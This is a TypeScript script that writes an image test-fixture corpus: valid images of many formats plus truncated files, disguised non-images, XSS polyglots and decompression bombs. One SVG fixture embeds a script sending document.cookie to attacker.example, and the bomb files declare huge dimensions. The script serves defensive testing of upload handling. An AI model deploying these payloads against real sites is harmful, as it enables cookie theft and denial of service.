/**
 * Writes the image fixture corpus under test/fixtures/: valid images of every accepted format,
 * broken and hostile files, and decompression bombs (tiny on disk, huge by their headers).
 *
 * Run with `npx tsx scripts/make-fixtures.ts`. The output is deterministic (seeded noise, fixed
 * encoder settings), so regenerating leaves `git status` clean unless the recipe changed.
 * test/helpers/fixtures.ts tables what each file must yield; test/fixtures/README.md lists them.
 */
import { mkdir, rm, writeFile } from "node:fs/promises";
import { dirname, join, relative } from "node:path";
import { fileURLToPath } from "node:url";
import { crc32, deflateSync } from "node:zlib";
import sharp, { type Sharp } from "sharp";

const fixturesRoot = fileURLToPath(new URL("../test/fixtures/", import.meta.url));

// ---------------------------------------------------------------------------------------------
// Pixels

/** mulberry32: a tiny seeded generator, so every run draws the same "random" pixels. */
function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function clampByte(value: number): number {
  return Math.max(0, Math.min(255, Math.round(value)));
}

/**
 * Smooth gradients and waves with per-pixel noise on top: compresses like a photograph (the noise
 * defeats the encoder's easy wins), unlike a flat test card that would shrink to nothing.
 */
function photoPixels(width: number, height: number, seed: number, noise: number): Buffer {
  const random = seededRandom(seed);
  const pixels = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const base = [
        200 * (x / width) + 30 * Math.sin(y / 37),
        180 * (y / height) + 40 * Math.sin(x / 53),
        120 + 80 * Math.sin((x + y) / 91),
      ];
      const offset = (y * width + x) * 3;
      for (let channel = 0; channel < 3; channel++) {
        pixels[offset + channel] = clampByte(base[channel]! + (random() - 0.5) * noise);
      }
    }
  }
  return pixels;
}

function photo(width: number, height: number, seed: number, noise: number): Sharp {
  return sharp(photoPixels(width, height, seed, noise), { raw: { width, height, channels: 3 } });
}

/** RGBA: a colour wheel fading to transparent towards the corners. */
function alphaPixels(size: number): Buffer {
  const pixels = Buffer.alloc(size * size * 4);
  const centre = (size - 1) / 2;
  for (let y = 0; y < size; y++) {
    for (let x = 0; x < size; x++) {
      const offset = (y * size + x) * 4;
      const angle = Math.atan2(y - centre, x - centre);
      const distance = Math.hypot(x - centre, y - centre) / centre;
      pixels[offset] = clampByte(128 + 127 * Math.cos(angle));
      pixels[offset + 1] = clampByte(128 + 127 * Math.cos(angle + (2 * Math.PI) / 3));
      pixels[offset + 2] = clampByte(128 + 127 * Math.cos(angle + (4 * Math.PI) / 3));
      pixels[offset + 3] = clampByte(255 * (1 - Math.min(1, distance)));
    }
  }
  return pixels;
}

/** `count` frames of a block moving across a gradient, stacked vertically as libvips wants them. */
function animationFrames(width: number, height: number, count: number): Sharp {
  const pixels = Buffer.alloc(width * height * count * 3);
  for (let frame = 0; frame < count; frame++) {
    for (let y = 0; y < height; y++) {
      for (let x = 0; x < width; x++) {
        const offset = ((frame * height + y) * width + x) * 3;
        const inBlock = Math.floor(x / (width / count)) === frame;
        pixels[offset] = inBlock ? 230 : clampByte((255 * x) / width);
        pixels[offset + 1] = inBlock ? 40 : clampByte((255 * y) / height);
        pixels[offset + 2] = inBlock ? 40 : 160;
      }
    }
  }
  return sharp(pixels, { raw: { width, height: height * count, channels: 3, pageHeight: height } });
}

// ---------------------------------------------------------------------------------------------
// Byte-level helpers

function ascii(text: string): Buffer {
  return Buffer.from(text, "latin1");
}

function uint16LE(value: number): Buffer {
  const buffer = Buffer.alloc(2);
  buffer.writeUInt16LE(value);
  return buffer;
}

function uint32LE(value: number): Buffer {
  const buffer = Buffer.alloc(4);
  buffer.writeUInt32LE(value);
  return buffer;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([ascii(type), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/** Byte offsets of each PNG chunk of the given type: [start of data, end of data). */
function findPngChunk(png: Buffer, type: string): { dataStart: number; dataEnd: number } {
  let offset = 8;
  while (offset + 8 <= png.length) {
    const length = png.readUInt32BE(offset);
    if (png.toString("latin1", offset + 4, offset + 8) === type) {
      return { dataStart: offset + 8, dataEnd: offset + 8 + length };
    }
    offset += 12 + length;
  }
  throw new Error(`no ${type} chunk`);
}

/** Offset of the first byte after a JPEG marker segment header, e.g. SOS (0xda) or SOF0 (0xc0). */
function findJpegSegment(jpeg: Buffer, marker: number): number {
  let offset = 2;
  while (offset + 4 <= jpeg.length) {
    if (jpeg[offset] !== 0xff) throw new Error(`bad JPEG marker at ${offset}`);
    const current = jpeg[offset + 1]!;
    if (current === marker) return offset;
    offset += 2 + jpeg.readUInt16BE(offset + 2);
  }
  throw new Error(`no JPEG marker 0x${marker.toString(16)}`);
}

// GIF: a two-colour palette and the LZW stream of one pixel of colour 0 (clear, 0, end-of-information
// at a minimum code size of 2), the smallest valid frame there is.
const gifPalette = Buffer.from([0x00, 0x00, 0x00, 0xff, 0xff, 0xff]);
const gifOnePixelData = Buffer.from([0x02, 0x02, 0x44, 0x01, 0x00]);

function gifHeader(width: number, height: number): Buffer {
  // 0x80: a global colour table follows; 0x00 in the low bits: it holds 2 entries.
  return Buffer.concat([ascii("GIF89a"), uint16LE(width), uint16LE(height), Buffer.from([0x80, 0x00, 0x00]), gifPalette]);
}

function gifOnePixelFrame(delayCentiseconds: number): Buffer {
  const graphicControl = Buffer.from([0x21, 0xf9, 0x04, 0x00, ...uint16LE(delayCentiseconds), 0x00, 0x00]);
  const descriptor = Buffer.concat([Buffer.from([0x2c]), uint16LE(0), uint16LE(0), uint16LE(1), uint16LE(1), Buffer.from([0x00])]);
  return Buffer.concat([graphicControl, descriptor, gifOnePixelData]);
}

const gifLoopForever = Buffer.concat([Buffer.from([0x21, 0xff, 0x0b]), ascii("NETSCAPE2.0"), Buffer.from([0x03, 0x01, 0x00, 0x00, 0x00])]);
const gifTrailer = Buffer.from([0x3b]);

/** A little-endian TIFF with `pages` 1×1 grey pages, every IFD pointing at the same pixel byte. */
function manyPageTiff(pages: number): Buffer {
  const headerLength = 8;
  const pixelOffset = headerLength;
  const firstIfdOffset = headerLength + 2; // one pixel byte, then a pad byte to keep IFDs word-aligned
  const entries: Array<[tag: number, type: number, value: number]> = [
    [254, 4, 2], // NewSubfileType: one page of a multi-page document
    [256, 3, 1], // ImageWidth
    [257, 3, 1], // ImageLength
    [258, 3, 8], // BitsPerSample
    [259, 3, 1], // Compression: none
    [262, 3, 1], // PhotometricInterpretation: black is zero
    [273, 4, pixelOffset], // StripOffsets
    [277, 3, 1], // SamplesPerPixel
    [278, 3, 1], // RowsPerStrip
    [279, 4, 1], // StripByteCounts
  ];
  const ifdLength = 2 + entries.length * 12 + 4;
  const parts: Buffer[] = [ascii("II*\0"), uint32LE(firstIfdOffset), Buffer.from([0x80, 0x00])];
  for (let page = 0; page < pages; page++) {
    const ifdOffset = firstIfdOffset + page * ifdLength;
    const next = page + 1 < pages ? ifdOffset + ifdLength : 0;
    const ifd = Buffer.alloc(ifdLength);
    ifd.writeUInt16LE(entries.length, 0);
    entries.forEach(([tag, type, value], index) => {
      const at = 2 + index * 12;
      ifd.writeUInt16LE(tag, at);
      ifd.writeUInt16LE(type, at + 2);
      ifd.writeUInt32LE(1, at + 4);
      if (type === 3) ifd.writeUInt16LE(value, at + 8);
      else ifd.writeUInt32LE(value, at + 8);
    });
    ifd.writeUInt32LE(next, ifdLength - 4);
    parts.push(ifd);
  }
  return Buffer.concat(parts);
}

/** A one-page PDF with a correct cross-reference table: what a real PDF looks like to a sniffer. */
function minimalPdf(): Buffer {
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
    "<< /Length 44 >>\nstream\nBT /F1 24 Tf 40 100 Td (imgvault) Tj ET\nendstream",
  ];
  let body = "%PDF-1.4\n";
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefOffset = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, "0")} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xrefOffset}\n%%EOF\n`;
  return ascii(body);
}

/** A ZIP archive holding one stored (uncompressed) file. */
function minimalZip(): Buffer {
  const name = ascii("hello.txt");
  const content = ascii("hello from a zip archive\n");
  const checksum = crc32(content);
  const fixedDosTime = [uint16LE(0), uint16LE(0x5821)]; // 2024-01-01 00:00, so output is stable
  const local = Buffer.concat([
    uint32LE(0x04034b50), uint16LE(10), uint16LE(0), uint16LE(0), ...fixedDosTime,
    uint32LE(checksum), uint32LE(content.length), uint32LE(content.length), uint16LE(name.length), uint16LE(0), name, content,
  ]);
  const central = Buffer.concat([
    uint32LE(0x02014b50), uint16LE(20), uint16LE(10), uint16LE(0), uint16LE(0), ...fixedDosTime,
    uint32LE(checksum), uint32LE(content.length), uint32LE(content.length), uint16LE(name.length),
    uint16LE(0), uint16LE(0), uint16LE(0), uint16LE(0), uint32LE(0), uint32LE(0), name,
  ]);
  const end = Buffer.concat([
    uint32LE(0x06054b50), uint16LE(0), uint16LE(0), uint16LE(1), uint16LE(1),
    uint32LE(central.length), uint32LE(local.length), uint16LE(0),
  ]);
  return Buffer.concat([local, central, end]);
}

/** An ELF64 x86-64 executable header and one program header, followed by a few code bytes. */
function elfExecutable(): Buffer {
  const header = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01]).copy(header, 0); // \x7fELF, 64-bit, LE, v1
  header.writeUInt16LE(2, 16); // e_type: executable
  header.writeUInt16LE(0x3e, 18); // e_machine: x86-64
  header.writeUInt32LE(1, 20); // e_version
  header.writeBigUInt64LE(0x400078n, 24); // e_entry
  header.writeBigUInt64LE(64n, 32); // e_phoff
  header.writeUInt16LE(64, 52); // e_ehsize
  header.writeUInt16LE(56, 54); // e_phentsize
  header.writeUInt16LE(1, 56); // e_phnum
  const program = Buffer.alloc(56);
  program.writeUInt32LE(1, 0); // PT_LOAD
  program.writeUInt32LE(5, 4); // read + execute
  program.writeBigUInt64LE(0x400000n, 16);
  program.writeBigUInt64LE(0x400000n, 24);
  program.writeBigUInt64LE(0x80n, 32);
  program.writeBigUInt64LE(0x80n, 40);
  program.writeBigUInt64LE(0x1000n, 48);
  // mov eax, 60; xor edi, edi; syscall (exit 0)
  const code = Buffer.from([0xb8, 0x3c, 0x00, 0x00, 0x00, 0x31, 0xff, 0x0f, 0x05]);
  return Buffer.concat([header, program, code]);
}

// ---------------------------------------------------------------------------------------------
// The corpus

type Recipe = [path: string, make: () => Buffer | Promise<Buffer>];

async function buildCorpus(): Promise<Recipe[]> {
  // Shared sources, encoded once: broken and bomb files are cut or patched from real images.
  const smallJpeg = await photo(128, 96, 7, 60).jpeg({ quality: 85 }).toBuffer();
  const smallPng = await photo(60, 56, 3, 255).png().toBuffer();
  const noiseGif = await photo(64, 64, 11, 255).gif({ effort: 1 }).toBuffer();
  const stillWebp = await photo(64, 48, 5, 40).webp({ quality: 80 }).toBuffer();

  const scriptSvg = [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">',
    '  <rect width="64" height="64" fill="#c33"/>',
    "  <script>fetch('https://attacker.example/?c=' + document.cookie)</script>",
    "</svg>",
    "",
  ].join("\n");

  return [
    // --- valid ---------------------------------------------------------------------------------
    ["valid/small.png", () => smallPng],
    ["valid/alpha.png", () => sharp(alphaPixels(48), { raw: { width: 48, height: 48, channels: 4 } }).png().toBuffer()],
    ["valid/one-pixel.png", () => sharp({ create: { width: 1, height: 1, channels: 3, background: "#3a7" } }).png().toBuffer()],
    ["valid/photo.jpg", () => photo(1600, 1200, 1, 88).jpeg({ quality: 90 }).toBuffer()],
    ["valid/small.jpg", () => smallJpeg],
    [
      "valid/exif-orientation6-gps.jpg",
      () =>
        photo(64, 48, 2, 30)
          .jpeg({ quality: 80 })
          .withExif({
            IFD0: { Make: "imgvault", Model: "fixture camera" },
            IFD3: { GPSLatitudeRef: "N", GPSLatitude: "52/1 31/1 12/1", GPSLongitudeRef: "E", GPSLongitude: "13/1 24/1 36/1" },
          })
          .withMetadata({ orientation: 6 })
          .toBuffer(),
    ],
    [
      "valid/xmp.jpg",
      () =>
        photo(48, 32, 4, 30)
          .jpeg({ quality: 80 })
          .withXmp(
            '<?xpacket begin="\uFEFF" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">' +
              '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" ' +
              'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator><rdf:Seq><rdf:li>imgvault</rdf:li></rdf:Seq>' +
              '</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>',
          )
          .toBuffer(),
    ],
    ["valid/animated.gif", () => animationFrames(48, 32, 3).gif({ loop: 0, delay: [200, 200, 200] }).toBuffer()],
    ["valid/still.gif", () => noiseGif],
    ["valid/animated.webp", () => animationFrames(48, 32, 3).webp({ loop: 0, delay: [200, 200, 200], lossless: true }).toBuffer()],
    ["valid/still.webp", () => stillWebp],
    ["valid/still.avif", () => photo(64, 48, 6, 30).avif({ quality: 50, effort: 2 }).toBuffer()],
    ["valid/still.tiff", () => photo(40, 30, 8, 30).tiff({ compression: "lzw" }).toBuffer()],
    ["valid/three-pages.tiff", () => animationFrames(40, 30, 3).tiff({ compression: "lzw" }).toBuffer()],

    // --- broken: truncated ---------------------------------------------------------------------
    [
      "hostile/truncated-scan.jpg",
      () => {
        const scanStart = findJpegSegment(smallJpeg, 0xda);
        return smallJpeg.subarray(0, scanStart + Math.floor((smallJpeg.length - scanStart) / 2));
      },
    ],
    ["hostile/first-100-bytes.jpg", () => smallJpeg.subarray(0, 100)],
    [
      "hostile/truncated.png",
      () => {
        const { dataStart, dataEnd } = findPngChunk(smallPng, "IDAT");
        return smallPng.subarray(0, dataStart + Math.floor((dataEnd - dataStart) / 2));
      },
    ],
    ["hostile/truncated.gif", () => noiseGif.subarray(0, Math.floor(noiseGif.length / 2))],
    ["hostile/truncated.webp", () => stillWebp.subarray(0, Math.floor(stillWebp.length / 2))],

    // --- not images, whatever their names say --------------------------------------------------
    ["hostile/empty.png", () => Buffer.alloc(0)],
    [
      "hostile/random-bytes.jpg",
      () => {
        const random = seededRandom(2024);
        return Buffer.from(Array.from({ length: 4096 }, () => Math.floor(random() * 256)));
      },
    ],
    ["hostile/text.png", () => ascii("This is a plain text file with an image's name.\nIt has no pixels at all.\n")],
    [
      "hostile/page.jpg",
      () =>
        ascii(
          "<!DOCTYPE html>\n<html><head><title>not an image</title></head>\n" +
            "<body><script>alert(document.cookie)</script></body></html>\n",
        ),
    ],
    ["hostile/document.png", () => minimalPdf()],
    ["hostile/archive.gif", () => minimalZip()],
    ["hostile/program.webp", () => elfExecutable()],
    ["hostile/script.svg", () => ascii(scriptSvg)],
    ["hostile/script-svg.png", () => ascii(scriptSvg)],
    // A GIF signature and then a web page: whatever reads past the magic finds HTML and script.
    [
      "hostile/polyglot-gif-html.gif",
      () => ascii("GIF89a/*<html><body><script>alert(document.domain)</script></body></html>*/\n"),
    ],
    // A whole, decodable 1×1 GIF whose comment block carries a script: valid as an image, and
    // HTML to a browser that sniffs.
    [
      "hostile/polyglot-decodable.gif",
      () => {
        const comment = ascii("<script>alert(document.domain)</script>");
        return Buffer.concat([
          gifHeader(1, 1),
          Buffer.from([0x21, 0xfe, comment.length]),
          comment,
          Buffer.from([0x00]),
          gifOnePixelFrame(0),
          gifTrailer,
        ]);
      },
    ],

    // --- bombs: tiny files whose headers claim enormous images ----------------------------------
    [
      "hostile/bomb-40000x40000.png",
      () => {
        const header = Buffer.alloc(13);
        header.writeUInt32BE(40000, 0);
        header.writeUInt32BE(40000, 4);
        header[8] = 1; // bit depth 1
        header[9] = 0; // greyscale
        // Enough rows of zeros for a decoder to start; the rest would be 200 MB inflated.
        const rows = Buffer.alloc(64 * (1 + 40000 / 8));
        return Buffer.concat([
          Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
          pngChunk("IHDR", header),
          pngChunk("IDAT", deflateSync(rows, { level: 9 })),
          pngChunk("IEND", Buffer.alloc(0)),
        ]);
      },
    ],
    [
      "hostile/bomb-65500x65500.jpg",
      () => {
        const patched = Buffer.from(smallJpeg);
        const frameStart = findJpegSegment(patched, 0xc0);
        patched.writeUInt16BE(65500, frameStart + 5); // height
        patched.writeUInt16BE(65500, frameStart + 7); // width
        return patched;
      },
    ],
    ["hostile/bomb-huge-screen.gif", () => Buffer.concat([gifHeader(65535, 65535), gifOnePixelFrame(0), gifTrailer])],
    [
      "hostile/bomb-5000-frames.gif",
      () => {
        const frame = gifOnePixelFrame(2);
        return Buffer.concat([gifHeader(1, 1), gifLoopForever, ...Array.from({ length: 5000 }, () => frame), gifTrailer]);
      },
    ],
    ["hostile/bomb-2000-pages.tiff", () => manyPageTiff(2000)],
  ];
}

async function main(): Promise<void> {
  const corpus = await buildCorpus();
  await rm(join(fixturesRoot, "valid"), { recursive: true, force: true });
  await rm(join(fixturesRoot, "hostile"), { recursive: true, force: true });
  let total = 0;
  for (const [path, make] of corpus) {
    const bytes = await make();
    const target = join(fixturesRoot, path);
    await mkdir(dirname(target), { recursive: true });
    await writeFile(target, bytes);
    total += bytes.length;
    console.log(`${String(bytes.length).padStart(9)}  ${relative(process.cwd(), target)}`);
  }
  console.log(`${String(total).padStart(9)}  total bytes in ${corpus.length} files`);
}

await main();
